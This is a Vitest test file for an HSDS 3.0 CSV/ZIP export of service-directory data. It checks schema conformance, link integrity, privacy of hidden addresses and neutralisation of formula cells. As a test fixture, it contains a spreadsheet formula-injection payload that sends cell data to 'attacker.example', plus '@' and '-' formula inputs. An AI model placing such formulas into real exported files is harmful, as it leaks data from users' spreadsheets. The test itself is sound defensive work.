import fs from 'node:fs';
import path from 'node:path';
import { Ajv } from 'ajv';
import addFormatsModule from 'ajv-formats';
import { parse } from 'csv-parse/sync';
import { strFromU8, unzipSync } from 'fflate';
import { sql } from 'kysely';
import { beforeAll, describe, expect, it } from 'vitest';
import { projectRoot } from '../../server/src/config.js';
import { signedInAs, type TestActor } from '../support/accounts.js';
import { databaseModes } from '../support/testDatabase.js';
import { demoDataDir, useTestApp } from '../support/testApp.js';

const addFormats = addFormatsModule as unknown as typeof addFormatsModule.default;

interface SpecField {
  name: string;
  type: string;
  format?: string;
}
interface SpecResource {
  name: string;
  path: string;
  order: number;
  fields: SpecField[];
  required: string[];
}

/** The tabular form as HSDS 3.0 publishes it: resources in their order, one-to-one fields in order. */
function tabularSpec(): SpecResource[] {
  const file = path.join(projectRoot, 'tests/fixtures/standards/hsds-3.0/schema/compiled/tabular.json');
  const tabular = JSON.parse(fs.readFileSync(file, 'utf8'));
  return Object.values(tabular.properties as Record<string, any>)
    .map(({ items }) => ({
      name: items.name,
      path: items.path,
      order: items.datapackage_metadata.order,
      fields: Object.values(items.properties as Record<string, any>).filter(
        (field) => field.type !== 'array' && field.type !== 'object',
      ),
      required: [...(items.required ?? []), ...(items.tabular_required ?? [])],
    }))
    .sort((a, b) => a.order - b.order);
}

const spec = tabularSpec();
const ajv = new Ajv({ strict: false });
addFormats(ajv);
const formatCheck = Object.fromEntries(
  ['uuid', 'email', 'uri', 'date-time'].map((format) => [format, ajv.compile({ type: 'string', format })]),
);

/**
 * HSDS requires an address's street, postal code and state or province. We keep no state or province, and a
 * town-level place (or a hidden address, for the public) has no street or postal code: its address row says the
 * town and country with those cells empty, rather than leave the place without a town (docs/hsds-api.md).
 */
const unknownPartOfAddress = (resource: string, field: string) =>
  resource === 'address' && ['address_1', 'postal_code', 'state_province'].includes(field);

type Files = Record<string, Record<string, string>[]>;

/** Every row of every file, checked against the specification's fields: order, required, formats, numbers. */
function readTabular(zip: Uint8Array): Files {
  const entries = unzipSync(zip);
  const files: Files = {};
  for (const resource of spec) {
    const text = strFromU8(entries[resource.path]!);
    const [header, ...rows] = parse(text) as string[][];
    expect(header, resource.path).toEqual(resource.fields.map((field) => field.name));
    files[resource.name] = rows.map((cells) => {
      expect(cells).toHaveLength(header!.length);
      const row = Object.fromEntries(header!.map((name, index) => [name, cells[index]!]));
      for (const field of resource.fields) {
        const value = row[field.name]!;
        if (resource.required.includes(field.name) && !unknownPartOfAddress(resource.name, field.name)) {
          expect(value, `${resource.path} ${field.name}`).not.toBe('');
        }
        if (value === '') continue;
        if (field.type === 'number') expect(Number.isFinite(Number(value)), `${field.name}: ${value}`).toBe(true);
        if (field.format) expect(formatCheck[field.format]!(value), `${field.name}: ${value}`).toBe(true);
      }
      return row;
    });
  }
  return files;
}

describe.each(databaseModes())('HSDS 3.0 tabular download (%s database)', (mode) => {
  const context = useTestApp(mode, demoDataDir);
  let member: TestActor;
  const secret = { street: '7 impasse Cachée', postalCode: '33888', contactEmail: 'personne@example.org' };
  const formulaName = '=HYPERLINK("http://attacker.example/?x="&A1,"click")';
  let hiddenLocationId = '';

  const download = async (slug: string, headers: Record<string, string> = {}) =>
    context.app.inject({ url: `/api/alliances/${slug}/exports/hsds.zip`, headers });

  beforeAll(async () => {
    const { db } = context.database;
    member = await signedInAs(db, 'member', 'bordeaux');
    const alliance = await db
      .selectFrom('alliance')
      .select('id')
      .where('slug', '=', 'bordeaux')
      .executeTakeFirstOrThrow();
    const organization = await db
      .insertInto('organization')
      .values({
        alliance_id: alliance.id,
        name: formulaName,
        description: '@SUM(1+9)',
        contact_person: 'Personne',
        contact_email: secret.contactEmail,
        identifiers: JSON.stringify([{ scheme: 'FR-SIRET', type: 'siret', identifier: '98765432100019' }]),
      })
      .returning('id')
      .executeTakeFirstOrThrow();
    const location = await db
      .insertInto('location')
      .values({
        organization_id: organization.id,
        address_1: secret.street,
        postal_code: secret.postalCode,
        city: 'Bordeaux',
        hide_address: true,
        geog: sql<string>`ST_SetSRID(ST_MakePoint(-0.5712, 44.8421), 4326)::geography`,
      })
      .returning('id')
      .executeTakeFirstOrThrow();
    hiddenLocationId = location.id;
    const service = await db
      .insertInto('service')
      .values({ organization_id: organization.id, name: '-2+3 accueil', category: 'social_action', free: true })
      .returning('id')
      .executeTakeFirstOrThrow();
    await db.insertInto('service_at_location').values({ service_id: service.id, location_id: location.id }).execute();
  });

  it('is a zip of the HSDS tabular files, in order, described by datapackage.json', async () => {
    const response = await download('bordeaux');
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('application/zip');
    expect(response.headers['content-disposition']).toMatch(/^attachment; filename="bordeaux-hsds\.zip"$/);
    const entries = unzipSync(response.rawPayload);
    const dataPackage = JSON.parse(strFromU8(entries['datapackage.json']!));
    expect(dataPackage.resources.map((resource: any) => [resource.name, resource.path])).toEqual(
      spec.map((resource) => [resource.name, resource.path]),
    );
    for (const [index, resource] of spec.entries()) {
      expect(dataPackage.resources[index].schema.fields.map((field: any) => field.name)).toEqual(
        resource.fields.map((field) => field.name),
      );
    }
  });

  it("holds the alliance's records, every row valid, every link pointing at a row of the download", async () => {
    const files = readTabular((await download('bordeaux')).rawPayload);
    const { count } = await context.database.db
      .selectFrom('service as s')
      .innerJoin('organization as o', 'o.id', 's.organization_id')
      .innerJoin('alliance as a', 'a.id', 'o.alliance_id')
      .select(sql<number>`count(*)::int`.as('count'))
      .where('a.slug', '=', 'bordeaux')
      .where('s.status', '=', 'active')
      .executeTakeFirstOrThrow();
    expect(files.service).toHaveLength(count);
    const ids = (name: string) => new Set(files[name]!.map((row) => row.id));
    const organizations = ids('organization');
    const services = ids('service');
    const locations = ids('location');
    const terms = ids('taxonomy_term');
    for (const service of files.service!) expect(organizations.has(service.organization_id!)).toBe(true);
    for (const link of files.service_at_location!) {
      expect(services.has(link.service_id!)).toBe(true);
      expect(locations.has(link.location_id!)).toBe(true);
    }
    for (const attribute of files.attribute!) {
      expect(services.has(attribute.link_id!)).toBe(true);
      expect(terms.has(attribute.taxonomy_term_id!)).toBe(true);
    }
    for (const address of files.address!) expect(locations.has(address.location_id!)).toBe(true);
    expect(files.schedule!.length).toBeGreaterThan(5);
    expect(files.taxonomy).toHaveLength(3);
    expect(files.organization_identifier!.map((row) => row.identifier)).toContain('98765432100019');
    expect(new Set(files.location!.map((row) => row.id)).size).toBe(files.location!.length);
  });

  it('neutralises formula-like cells', async () => {
    const text = strFromU8(unzipSync((await download('bordeaux')).rawPayload)['organizations.csv']!);
    expect(text).toContain(`"'${formulaName.replaceAll('"', '""')}"`);
    expect(text).toContain(",'@SUM(1+9),");
    const services = strFromU8(unzipSync((await download('bordeaux')).rawPayload)['services.csv']!);
    expect(services).toContain(",'-2+3 accueil,");
  });

  it('keeps hidden addresses and contact persons out of the public download, not out of the members ones', async () => {
    const publicZip = unzipSync((await download('bordeaux')).rawPayload);
    const publicText = Object.values(publicZip)
      .map((entry) => strFromU8(entry))
      .join('\n');
    for (const value of [secret.street, secret.postalCode, secret.contactEmail, '44.8421']) {
      expect(publicText).not.toContain(value);
    }
    const publicFiles = readTabular((await download('bordeaux')).rawPayload);
    const hidden = publicFiles.location!.find((row) => row.id === hiddenLocationId)!;
    expect(Number(hidden.latitude)).toBeCloseTo(44.84, 6);
    expect(publicFiles.contact).toEqual([]);

    const memberFiles = readTabular((await download('bordeaux', member.headers)).rawPayload);
    expect(memberFiles.address!.map((row) => row.address_1)).toContain(secret.street);
    expect(memberFiles.contact!.map((row) => row.email)).toContain(secret.contactEmail);
    expect(Number(memberFiles.location!.find((row) => row.id === hiddenLocationId)!.latitude)).toBeCloseTo(44.8421, 6);
  });

  it('answers 404 for an alliance that does not exist', async () => {
    const response = await download('atlantis');
    expect(response.statusCode).toBe(404);
    expect(response.json().message).toBe('There is no alliance "atlantis".');
  });

  it("gives a large alliance's download in full, every row valid", async () => {
    const { db } = context.database;
    const alliance = await db
      .selectFrom('alliance')
      .select('id')
      .where('slug', '=', 'friesland')
      .executeTakeFirstOrThrow();
    await sql`
      with organizations as (
        insert into organization (alliance_id, name, description)
        select ${alliance.id}, 'Generated organisation ' || n, 'Generated' from generate_series(1, 200) as n
        returning id, name),
      services as (
        insert into service (organization_id, name, category, topics, languages, phone, free)
        select o.id, o.name || ' service ' || k, 'professional_integration', array['training'], array['nl', 'fy'],
          '+31 58 000 ' || k, k % 2 = 0
        from organizations o, generate_series(1, 10) as k
        returning id, organization_id),
      locations as (
        insert into location (organization_id, city, country, geog)
        select o.id, 'Leeuwarden', 'NL', ST_SetSRID(ST_MakePoint(5.79, 53.2), 4326)::geography from organizations o
        returning id, organization_id)
      insert into service_at_location (service_id, location_id)
      select s.id, l.id from services s join locations l on l.organization_id = s.organization_id`.execute(db);
    const files = readTabular((await download('friesland')).rawPayload);
    expect(files.service!.length).toBeGreaterThanOrEqual(2000);
    expect(files.service_at_location!.length).toBeGreaterThanOrEqual(2000);
    expect(files.phone!.length).toBeGreaterThanOrEqual(2000);
  }, 180_000);
});
